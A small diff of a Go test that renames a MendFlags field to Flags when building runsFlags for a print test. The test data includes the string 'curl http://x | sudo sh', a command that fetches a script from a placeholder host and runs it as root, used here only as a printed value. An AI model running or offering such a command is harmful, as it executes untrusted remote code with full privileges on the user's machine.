@@ -13,7 +13,7 @@ func TestRunsForgeNoLines(t *testing.T) {
 	t.Parallel()
 	for _, output := range []string{"", "name"} {
 		out, streams := plugintest.OnScreen()
-		f := &runsFlags{MendFlags: apply.MendFlags{App: cli.App{Streams: streams}}}
+		f := &runsFlags{Flags: apply.Flags{App: cli.App{Streams: streams}}}
 		f.Output = output
 		if err := f.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: plugintest.Planted, Nodes: []string{plugintest.Planted}, Outcome: plugintest.Planted}, {Run: plugintest.Planted}}); err != nil {
 			t.Fatal(err)
